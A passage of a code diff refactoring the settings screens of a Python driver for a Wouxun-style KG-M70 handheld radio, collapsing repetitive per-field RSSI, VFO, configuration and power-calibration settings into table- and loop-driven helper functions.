-                              0, 255,
-                              self._memobj.vfob_rssi_vhf.s11, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_vhf.s12", "RSSI Rng12 (Band start + Spacing * 11)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_vhf.s12, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_vhf.s13", "RSSI Rng13 (Band start + Spacing * 12)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_vhf.s13, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_vhf.s14", "RSSI Rng14 (Band start + Spacing * 13)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_vhf.s14, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_vhf.s15", "RSSI Rng15 (Band start + Spacing * 14)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_vhf.s15, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_vhf.s16", "RSSI >=Rng16 (Band start + Spacing * 15)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_vhf.s16, 1))
-        grp.append(rs)
-
-    def _createVfoBUhfRxSettings(self, grp):
-        rs = RadioSetting("vfob_rssi_band.freq_start_uhf", "Frequency band start",
-                          RadioSettingValueInteger(
-                              230000000, 580000000,
-                              self._memobj.vfob_rssi_band.freq_start_uhf * 10, 1000000))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_band.freq_spacing_uhf", "Band spacing in Mhz",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_band.freq_spacing_uhf, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_uhf.s1", "RSSI <= Rng1 (Band start)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_uhf.s1, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_uhf.s2", "RSSI Rng2 (Band start + Spacing)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_uhf.s2, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_uhf.s3", "RSSI Rng3 (Band start + Spacing * 2)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_uhf.s3, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_uhf.s4", "RSSI Rng4 (Band start + Spacing * 3)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_uhf.s4, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_uhf.s5", "RSSI Rng5 (Band start + Spacing * 4)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_uhf.s5, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_uhf.s6", "RSSI Rng6 (Band start + Spacing * 5)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_uhf.s6, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_uhf.s7", "RSSI Rng7 (Band start + Spacing * 6)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_uhf.s7, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_uhf.s8", "RSSI Rng8 (Band start + Spacing * 7)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_uhf.s8, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_uhf.s9", "RSSI Rng9 (Band start + Spacing * 8)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_uhf.s9, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_uhf.s10", "RSSI Rng10 (Band start + Spacing * 9)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_uhf.s10, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_uhf.s11", "RSSI Rng11 (Band start + Spacing * 10)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_uhf.s11, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_uhf.s12", "RSSI Rng12 (Band start + Spacing * 11)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_uhf.s12, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_uhf.s13", "RSSI Rng13 (Band start + Spacing * 12)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_uhf.s13, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_uhf.s14", "RSSI Rng14 (Band start + Spacing * 13)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_uhf.s14, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_uhf.s15", "RSSI Rng15 (Band start + Spacing * 14)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_uhf.s15, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_rssi_uhf.s16", "RSSI >=Rng16 (Band start + Spacing * 15)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_rssi_uhf.s16, 1))
-        grp.append(rs)
-        
-    def _createVfoBVhfUnkAdjSettings(self, grp):
-        rs = RadioSetting("vfob_vhf_unk_adj.s1", "<= Rng1",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_vhf_unk_adj.s1, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_vhf_unk_adj.s2", "Rng2",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_vhf_unk_adj.s2, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_vhf_unk_adj.s3", "Rng3",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_vhf_unk_adj.s3, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_vhf_unk_adj.s4", "Rng4",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_vhf_unk_adj.s4, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_vhf_unk_adj.s5", "Rng5",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_vhf_unk_adj.s5, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_vhf_unk_adj.s6", "Rng6",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_vhf_unk_adj.s6, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_vhf_unk_adj.s7", "Rng7",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_vhf_unk_adj.s7, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_vhf_unk_adj.s8", "Rng8",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_vhf_unk_adj.s8, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_vhf_unk_adj.s9", "Rng9",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_vhf_unk_adj.s9, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_vhf_unk_adj.s10", "Rng10",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_vhf_unk_adj.s10, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_vhf_unk_adj.s11", "Rng11",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_vhf_unk_adj.s11, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_vhf_unk_adj.s12", "Rng12",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_vhf_unk_adj.s12, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_vhf_unk_adj.s13", "Rng13",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_vhf_unk_adj.s13, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_vhf_unk_adj.s14", "Rng14",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_vhf_unk_adj.s14, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_vhf_unk_adj.s15", "Rng15",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_vhf_unk_adj.s15, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_vhf_unk_adj.s16", ">= Rng16",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_vhf_unk_adj.s16, 1))
-        grp.append(rs)
-
-    def _createVfoBUhfUnkAdjSettings(self, grp):
-        rs = RadioSetting("vfob_uhf_unk_adj.s1", "<= Rng1",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_uhf_unk_adj.s1, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_uhf_unk_adj.s2", "Rng2",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_uhf_unk_adj.s2, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_uhf_unk_adj.s3", "Rng3",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_uhf_unk_adj.s3, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_uhf_unk_adj.s4", "Rng4",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_uhf_unk_adj.s4, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_uhf_unk_adj.s5", "Rng5",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_uhf_unk_adj.s5, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_uhf_unk_adj.s6", "Rng6",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_uhf_unk_adj.s6, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_uhf_unk_adj.s7", "Rng7",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_uhf_unk_adj.s7, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_uhf_unk_adj.s8", "Rng8",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_uhf_unk_adj.s8, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_uhf_unk_adj.s9", "Rng9",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_uhf_unk_adj.s9, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_uhf_unk_adj.s10", "Rng10",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_uhf_unk_adj.s10, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_uhf_unk_adj.s11", "Rng11",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_uhf_unk_adj.s11, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_uhf_unk_adj.s12", "Rng12",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_uhf_unk_adj.s12, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_uhf_unk_adj.s13", "Rng13",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_uhf_unk_adj.s13, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_uhf_unk_adj.s14", "Rng14",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_uhf_unk_adj.s14, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_uhf_unk_adj.s15", "Rng15",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_uhf_unk_adj.s15, 1))
-        grp.append(rs)
-        rs = RadioSetting("vfob_uhf_unk_adj.s16", ">= Rng16",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vfob_uhf_unk_adj.s16, 1))
-        grp.append(rs)
+        for i, _grp in enumerate(self._memobj.scan_groups):
+            rs = RadioSetting("scan_groups.%i.lower" % i, "%i From" % (i + 1),
+                              RadioSettingValueInteger(1, 999, _grp.lower, 1))
+            scan_grp.append(rs)
+            rs = RadioSetting("scan_groups.%i.upper" % i, "%i To" % (i + 1),
+                              RadioSettingValueInteger(1, 999, _grp.upper, 1))
+            scan_grp.append(rs)
+
+    def _createSlotSettings(self, grp, name, labels, band=None):
+        # the slot struct and its labels, RSSI tabs also get the band
+        # start/spacing rows first (band struct, field suffix and the band
+        # bounding the start frequency)
+        if band:
+            self._append_band_settings(grp, *band)
+        self._append_slot_group(grp, name, labels)
+
+    def _append_band_settings(self, grp, name, suffix, band):
+        # band start (in Hz) and spacing that the RSSI ranges are based on
+        _band = getattr(self._memobj, name)
+        start = "freq_start_" + suffix
+        spacing = "freq_spacing_" + suffix
+        rs = RadioSetting("%s.%s" % (name, start), "Frequency band start",
+                          RadioSettingValueInteger(
+                              band[0], band[1],
+                              getattr(_band, start) * 10, 1000000))
+        grp.append(rs)
+        rs = self._make_u8_setting("%s.%s" % (name, spacing),
+                                   "Band spacing in Mhz",
+                                   getattr(_band, spacing))
+        grp.append(rs)
+
+    def _createConfigSettings(self, cfg_grp):
+        _settings = self._memobj.settings
+        for setting in CONFIG_SETTINGS:
+            kind, arg = setting.kind, setting.arg
+            value = getattr(_settings, setting.name)
+            if kind == "bool":
+                val = RadioSettingValueBoolean(value)
+            elif kind == "inverted":
+                val = RadioSettingValueBoolean(not value)
+            elif kind == "int":
+                val = RadioSettingValueInteger(arg[0], arg[1], value, arg[2])
+            elif kind == "list":
+                val = RadioSettingValueList(arg, current_index=value)
+            elif kind == "mapped":
+                options, index = arg
+                val = RadioSettingValueList(options,
+                                            current_index=index[int(value)])
+            else:
+                val = RadioSettingValueString(
+                    0, arg, value.get_raw().decode("latin-1"))
+                val.set_mutable(True)
+            cfg_grp.append(RadioSetting(setting.name, setting.label, val))
 
-    def _createConfigSettings(self, _settings, cfg_grp):
-        rs = RadioSetting("main_ab", "Selected band",
-                          RadioSettingValueList(BAND_LIST,
-                                                current_index=_settings.
-                                                main_ab))
-        cfg_grp.append(rs)
-        rs = RadioSetting("channel_menu", "Menu available in channel mode",
-                          RadioSettingValueBoolean(_settings.channel_menu))
-        cfg_grp.append(rs)
-        rs = RadioSetting("voice", "Voice Guide",
-                          RadioSettingValueBoolean(_settings.voice))
-        cfg_grp.append(rs)
-        rs = RadioSetting("language", "Language",
-                          RadioSettingValueList(LANGUAGE_LIST,
-                                                current_index=_settings.
-                                                language))
-        cfg_grp.append(rs)
-        rs = RadioSetting("timeout", "Timeout Timer",
-                          RadioSettingValueList(TIMEOUT_LIST,
-                                                current_index=_settings.timeout))
-        cfg_grp.append(rs)
-        rs = RadioSetting("toalarm", "Timeout Alarm",
-                          RadioSettingValueInteger(0, 10, _settings.toalarm))
-        cfg_grp.append(rs)
-        rs = RadioSetting("roger_beep", "Roger Beep",
-                          RadioSettingValueBoolean(_settings.roger_beep))
-        cfg_grp.append(rs)
-        rs = RadioSetting("power_save", "Power save",
-                          RadioSettingValueBoolean(_settings.power_save))
-        cfg_grp.append(rs)
-        rs = RadioSetting("autolock", "Autolock",
-                          RadioSettingValueBoolean(_settings.autolock))
-        cfg_grp.append(rs)
-        rs = RadioSetting("keylock", "Keypad Lock",
-                          RadioSettingValueBoolean(_settings.keylock))
-        cfg_grp.append(rs)
-        rs = RadioSetting("beep", "Keypad Beep",
-                          RadioSettingValueBoolean(_settings.beep))
-        cfg_grp.append(rs)
-        rs = RadioSetting("stopwatch", "Stopwatch",
-                          RadioSettingValueBoolean(_settings.stopwatch))
-        cfg_grp.append(rs)
-        rs = RadioSetting("backlight", "Backlight Time",
-                          RadioSettingValueList(BACKLIGHT_LIST,
-                                                current_index=_settings.
-                                                backlight))
-        cfg_grp.append(rs)
-        rs = RadioSetting("backlight_level", "Backlight Level",
-                          RadioSettingValueInteger(
-                              1, 10, _settings.backlight_level, 1))
-        cfg_grp.append(rs)
-        rs = RadioSetting("dtmf_st", "DTMF Sidetone",
-                          RadioSettingValueList(DTMFST_LIST,
-                                                current_index=_settings.
-                                                dtmf_st))
-        cfg_grp.append(rs)
-        rs = RadioSetting("ani_sw", "ANI-ID Switch",
-                          RadioSettingValueBoolean(_settings.ani_sw))
-        cfg_grp.append(rs)
-        rs = RadioSetting(
-            "ptt_delay", "PTT-ID Delay",
-            RadioSettingValueList(
-                PTTID_DELAY_LIST, current=str(int(_settings.ptt_delay) * 100)))
-        cfg_grp.append(rs)
-        rs = RadioSetting(
-            "ptt_id", "PTT-ID",
-            RadioSettingValueList(
-                PTTID_LIST, current_index=_settings.ptt_id))
-        cfg_grp.append(rs)
-        rs = RadioSetting(
-            "ring_time", "Ring Time",
-            RadioSettingValueList(
-                LIST_10, current_index=_settings.ring_time))
-        cfg_grp.append(rs)
-        rs = RadioSetting("scan_rev", "Scan Mode",
-                          RadioSettingValueList(SCANMODE_LIST,
-                                                current_index=_settings.
-                                                scan_rev))
-        cfg_grp.append(rs)
-        rs = RadioSetting("vox", "VOX",
-                          RadioSettingValueList(LIST_10,
-                                                current_index=_settings.vox))
-        cfg_grp.append(rs)
-        rs = RadioSetting("prich_sw", "Priority Channel Switch",
-                          RadioSettingValueBoolean(_settings.prich_sw))
-        cfg_grp.append(rs)
-        rs = RadioSetting("pri_ch", "Priority Channel",
-                          RadioSettingValueInteger(1, 999, _settings.pri_ch))
-        cfg_grp.append(rs)
-        rs = RadioSetting("rpt_mode", "Radio Mode",
-                          RadioSettingValueList(RPTMODE_LIST,
-                                                current_index=_settings.
-                                                rpt_mode))
-        cfg_grp.append(rs)
-        rs = RadioSetting("rpt_set", "Repeater Setting",
-                          RadioSettingValueList(RPTSET_LIST,
-                                                current_index=_settings.
-                                                rpt_set - 1))
-        cfg_grp.append(rs)
-        rs = RadioSetting("rpt_spk", "Repeater Mode Speaker",
-                          RadioSettingValueBoolean(_settings.rpt_spk))
-        cfg_grp.append(rs)
-        rs = RadioSetting("rpt_ptt", "Repeater PTT",
-                          RadioSettingValueBoolean(_settings.rpt_ptt))
-        cfg_grp.append(rs)
-        rs = RadioSetting("dtmf_tx_time", "DTMF Tx Duration",
-                          RadioSettingValueList(DTMF_TIMES,
-                                                current=str(_settings.
-                                                            dtmf_tx_time * 10)))
-        cfg_grp.append(rs)
-        rs = RadioSetting("dtmf_interval", "DTMF Interval",
-                          RadioSettingValueList(DTMF_TIMES,
-                                                current=str(_settings.
-                                                            dtmf_interval * 10)))
-        cfg_grp.append(rs)
-        rs = RadioSetting("alert", "Alert Tone",
-                          RadioSettingValueList(ALERTS_LIST,
-                                                current_index=_settings.alert))
-        cfg_grp.append(rs)
-        rs = RadioSetting("rpt_tone", "Repeater Tone",
-                          RadioSettingValueBoolean(_settings.rpt_tone == False))
-        cfg_grp.append(rs)
-        rs = RadioSetting("rpt_hold", "Repeater Hold Time",
-                          RadioSettingValueList(HOLD_TIMES,
-                                                current_index=_settings.
-                                                rpt_hold))
-        cfg_grp.append(rs)
-        rs = RadioSetting("scan_det", "Scan DET",
-                          RadioSettingValueBoolean(_settings.scan_det))
-        cfg_grp.append(rs)
-        rs = RadioSetting("sc_qt", "SC-QT",
-                          RadioSettingValueList(SCQT_LIST,
-                                                current_index=_settings.sc_qt))
-        cfg_grp.append(rs)
-        rs = RadioSetting("smuteset", "SubFreq Mute",
-                          RadioSettingValueList(SMUTESET_LIST,
-                                                current_index=_settings.
-                                                smuteset))
-        cfg_grp.append(rs)
-        rs = RadioSetting("speaker", "Speaker",
-                          RadioSettingValueList(
-                              SPK_LIST, current_index=_settings.speaker))
-        cfg_grp.append(rs)
-        rs = RadioSetting("a_area_mute", "Area A mute",
-                          RadioSettingValueBoolean(_settings.a_area_mute))
-        cfg_grp.append(rs)
-        rs = RadioSetting("b_area_mute", "Area B mute",
-                          RadioSettingValueBoolean(_settings.b_area_mute))
-        cfg_grp.append(rs)
-        _pwd = "".join(map(chr, _settings.mode_sw_pwd))
-        val = RadioSettingValueString(0, 6, _pwd)
-        val.set_mutable(True)
-        rs = RadioSetting("mode_sw_pwd", "Mode Switch Password", val)
-        cfg_grp.append(rs)
-        _pwd = "".join(map(chr, _settings.reset_pwd))
-        val = RadioSettingValueString(0, 6, _pwd)
-        val.set_mutable(True)
-        rs = RadioSetting("reset_pwd", "Reset Password", val)
-        cfg_grp.append(rs)
-
-    def _createVfoASettings(self, _settings, _vfoa, vfoa_grp):
-        rs = RadioSetting("workmode_a", "VFO A Workmode",
-                          RadioSettingValueList(WORKMODE_LIST,
-                                                current_index=_settings.
-                                                workmode_a))
-        vfoa_grp.append(rs)
-        rs = RadioSetting("work_cha", "VFO A Channel",
-                          RadioSettingValueInteger(1, 999, _settings.work_cha))
-        vfoa_grp.append(rs)
-        rs = RadioSetting("vfoa.rxfreq", "VFO A Rx Frequency",
-                          RadioSettingValueInteger(
-                              134000000, 580000000, _vfoa.rxfreq * 10, 5000))
-        vfoa_grp.append(rs)
-        rs = RadioSetting("vfoa.txoffset", "VFO A Tx Offset",
-                          RadioSettingValueInteger(
-                              0, 320000000, _vfoa.txoffset, 5000))
-        vfoa_grp.append(rs)
-        rs = RadioSetting("vfoa.shift_dir", "VFO A Offset Direction",
-                          RadioSettingValueList(
-                              OFFSET_LIST, current_index=_vfoa.shift_dir))
-        vfoa_grp.append(rs)
-        # rs = RadioSetting("vfoa.rxtone", "VFO A Rx Tone",
-        #                  RadioSettingValueMap(TONE_MAP, _vfoa.rxtone))
-        # vfoa_grp.append(rs)
-        # rs = RadioSetting("vfoa.txtone", "VFO A Tx Tone",
-        #                  RadioSettingValueMap(TONE_MAP, _vfoa.txtone))
-        # vfoa_grp.append(rs)
-        rs = RadioSetting("vfoa.power", "VFO A Power",
-                          RadioSettingValueList(
-                              POWER_LIST, current_index=_vfoa.power))
-        vfoa_grp.append(rs)
-        rs = RadioSetting("vfoa.iswide", "VFO A NBFM",
-                          RadioSettingValueList(
-                              BANDWIDTH_LIST, current_index=_vfoa.iswide))
-        vfoa_grp.append(rs)
-        rs = RadioSetting("vfoa.mute_mode", "VFO A Mute",
-                          RadioSettingValueList(
-                              SPMUTE_LIST, current_index=_vfoa.mute_mode))
-        vfoa_grp.append(rs)
-        rs = RadioSetting("vfoa.step", "VFO A Step (kHz)",
-                          RadioSettingValueList(
-                              STEP_LIST, current_index=_vfoa.step))
-        vfoa_grp.append(rs)
-        rs = RadioSetting("vfoa.squelch", "VFO A Squelch",
-                          RadioSettingValueList(
-                              LIST_10, current_index=_vfoa.squelch))
-        vfoa_grp.append(rs)
-        rs = RadioSetting("bcl_a", "Busy Channel Lock-out A",
-                          RadioSettingValueBoolean(_settings.bcl_a))
-        vfoa_grp.append(rs)
-
-    def _createVfoBSettings(self, _settings, _vfob, vfob_grp):
-        rs = RadioSetting("workmode_b", "VFO B Workmode",
+    def _createVfoSettings(self, vfo_grp, tag):
+        # tag is the VFO letter, "a" or "b"
+        _settings = self._memobj.settings
+        name = "vfo" + tag
+        _vfo = getattr(self._memobj, name)
+        label = "VFO %s " % tag.upper()
+        rs = RadioSetting("workmode_" + tag, label + "Workmode",
                           RadioSettingValueList(
                               WORKMODE_LIST,
-                              current_index=_settings.workmode_b))
-        vfob_grp.append(rs)
-        rs = RadioSetting("work_chb", "VFO B Channel",
-                          RadioSettingValueInteger(1, 999, _settings.work_chb))
-        vfob_grp.append(rs)
-        rs = RadioSetting("vfob.rxfreq", "VFO B Rx Frequency",
-                          RadioSettingValueInteger(
-                              134000000, 580000000, _vfob.rxfreq * 10, 5000))
-        vfob_grp.append(rs)
-        rs = RadioSetting("vfob.txoffset", "VFO B Tx Offset",
-                          RadioSettingValueInteger(
-                              0, 320000000, _vfob.txoffset, 5000))
-        vfob_grp.append(rs)
-        rs = RadioSetting("vfob.shift_dir", "VFO B Offset Direction",
-                          RadioSettingValueList(
-                              OFFSET_LIST, current_index=_vfob.shift_dir))
-        vfob_grp.append(rs)
-        # rs = RadioSetting("vfob_rxtone", "VFO B Rx Tone",
-        #                  RadioSettingValueMap(TONE_MAP, _vfob.rxtone))
-        # vfob_grp.append(rs)
-        # rs = RadioSetting("vfob_txtone", "VFO B Tx Tone",
-        #                  RadioSettingValueMap(TONE_MAP, _vfob.txtone))
-        # vfob_grp.append(rs)
-        rs = RadioSetting("vfob.power", "VFO B Power",
-                          RadioSettingValueList(
-                              POWER_LIST, current_index=_vfob.power))
-        vfob_grp.append(rs)
-        rs = RadioSetting("vfob.iswide", "VFO B NBFM",
-                          RadioSettingValueList(
-                              BANDWIDTH_LIST, current_index=_vfob.iswide))
-        vfob_grp.append(rs)
-        rs = RadioSetting("vfob.mute_mode", "VFO B Mute",
-                          RadioSettingValueList(
-                              SPMUTE_LIST, current_index=_vfob.mute_mode))
-        vfob_grp.append(rs)
-        rs = RadioSetting("vfob.step", "VFO B Step (kHz)",
-                          RadioSettingValueList(
-                              STEP_LIST, current_index=_vfob.step))
-        vfob_grp.append(rs)
-        rs = RadioSetting("vfob.squelch", "VFO B Squelch",
-                          RadioSettingValueList(
-                              LIST_10, current_index=_vfob.squelch))
-        vfob_grp.append(rs)
-        rs = RadioSetting("bcl_b", "Busy Channel Lock-out B",
-                          RadioSettingValueBoolean(_settings.bcl_b))
-        vfob_grp.append(rs)
-
-    def _createKeySettings(self, _settings, key_grp):
-        _msg = str(_settings.dispstr).strip().split("\0")[0]
+                              current_index=getattr(_settings,
+                                                    "workmode_" + tag)))
+        vfo_grp.append(rs)
+        rs = RadioSetting("work_ch" + tag, label + "Channel",
+                          RadioSettingValueInteger(
+                              1, 999, getattr(_settings, "work_ch" + tag)))
+        vfo_grp.append(rs)
+        # both are stored in 10 Hz units, see FREQ_SETTINGS
+        rxfreq = int(_vfo.rxfreq) * 10
+        txoffset = int(_vfo.txoffset) * 10
+        rs = RadioSetting(name + ".rxfreq", label + "Rx Frequency",
+                          RadioSettingValueInteger(
+                              134000000, 580000000, rxfreq, 5000))
+        vfo_grp.append(rs)
+        rs = RadioSetting(name + ".txoffset", label + "Tx Offset",
+                          RadioSettingValueInteger(
+                              0, 320000000, txoffset, 5000))
+        vfo_grp.append(rs)
+        for setting, text, options in VFO_LIST_SETTINGS:
+            rs = RadioSetting("%s.%s" % (name, setting), label + text,
+                              RadioSettingValueList(
+                                  options,
+                                  current_index=getattr(_vfo, setting)))
+            vfo_grp.append(rs)
+        rs = RadioSetting("bcl_" + tag,
+                          "Busy Channel Lock-out " + tag.upper(),
+                          RadioSettingValueBoolean(
+                              getattr(_settings, "bcl_" + tag)))
+        vfo_grp.append(rs)
+
+    def _createKeySettings(self, key_grp):
+        _settings = self._memobj.settings
+        _msg = _settings.dispstr.get_raw().partition(b"\x00")[0]
+        _msg = _msg.strip().decode("latin-1")
         val = RadioSettingValueString(0, 10, _msg)
         val.set_mutable(True)
         rs = RadioSetting("dispstr", "Display Message", val)
         key_grp.append(rs)
-        _ani = ""
-        for i in _settings.ani:
-            if i < 10:
-                _ani += chr(i + 0x30)
-            else:
-                break
+        # the code is the leading run of digits
+        _ani = _settings.ani.get_raw().translate(ANI_CHARS)
+        _ani = _ani.partition(b"\xFF")[0].decode("ascii")
         val = RadioSettingValueString(0, 6, _ani)
         val.set_mutable(True)
         rs = RadioSetting("ani", "ANI code", val)
@@ -2380,363 +1494,29 @@ class KGM70Radio(chirp_common.CloneModeRadio,
         rs = RadioSetting("pf2_func", "PF2 Key function",
                           RadioSettingValueList(
                               PF2KEY_LIST,
-                              current_index=self._memobj.settings.pf2_func))
+                              current_index=_settings.pf2_func))
         key_grp.append(rs)
         rs = RadioSetting("pf1_func", "PF1 Key function",
                           RadioSettingValueList(
                               PF1KEY_LIST,
-                              current_index=self._memobj.settings.pf1_func))
+                              current_index=_settings.pf1_func))
         key_grp.append(rs)
 
-    def _createVhfPowerSettings(self, vpwr_grp):
-        rs = RadioSetting("vhf_pwr_band.freq_start", "Frequency band start",
-                          RadioSettingValueInteger(
-                              130000000, 185000000,
-                              self._memobj.vhf_pwr_band.freq_start * 10, 100000))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_pwr_band.spacing", "Band spacing in Mhz",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_pwr_band.spacing, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_high_pwr.s1", "High <= Rng1 (Band start)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_high_pwr.s1, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_high_pwr.s2", "High Rng2 (Band start + Spacing)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_high_pwr.s2, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_high_pwr.s3", "High Rng3 (Band start + Spacing * 2)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_high_pwr.s3, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_high_pwr.s4", "High Rng4 (Band start + Spacing * 3)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_high_pwr.s4, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_high_pwr.s5", "High Rng5 (Band start + Spacing * 4)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_high_pwr.s5, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_high_pwr.s6", "High Rng6 (Band start + Spacing * 5)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_high_pwr.s6, 1))
-        vpwr_grp.append(rs)
